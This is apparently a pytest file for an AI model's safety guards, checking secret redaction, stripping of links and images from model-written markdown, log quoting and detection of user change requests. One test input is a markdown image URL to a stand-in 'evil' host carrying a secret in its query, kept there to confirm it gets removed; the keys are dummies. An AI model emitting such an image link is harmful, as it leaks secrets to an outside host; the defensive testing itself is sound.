"""Guards: redaction of secrets, no links or images from model text, and who may ask for a change."""

from __future__ import annotations

import pytest

from engine.assistant.safety import defang_markdown, quote_log, redact, user_requested_change


def test_redact_masks_the_configured_secret_and_key_shaped_strings() -> None:
    text = "key sk-proj-abcdef123456 and AKIAABCDEFGHIJKLMNOP and mysecretvalue, bearer abcdefghijklmnop"
    out = redact(text, ["mysecretvalue"])
    assert "sk-proj" not in out and "AKIA" not in out and "mysecretvalue" not in out
    assert "abcdefghijklmnop" not in out
    assert out.count("[redacted]") == 4
    assert redact("sk-1 is short", []) == "sk-1 is short"


def test_model_markdown_loses_links_and_images() -> None:
    out = defang_markdown("see ![x](http://evil/?k=secret) and [docs](http://x)")
    assert "](" not in out and "![" not in out


def test_log_lines_are_quoted_as_inline_code() -> None:
    assert quote_log("line with `backticks`\nand a newline") == "`line with 'backticks' and a newline`"
    assert quote_log("x" * 500).endswith("…`")


@pytest.mark.parametrize(("text", "asks"), [
    ("scale the orders glue job to 16 workers", True), ("restart it", True), ("propose it", True),
    ("yes, go ahead", True), ("fix payments", True), ("why is payments failing?", False),
    ("how many errors today?", False), ("what is the cpu of orders", False),
])
def test_who_asked_for_a_change(text: str, asks: bool) -> None:
    assert user_requested_change(text) is asks
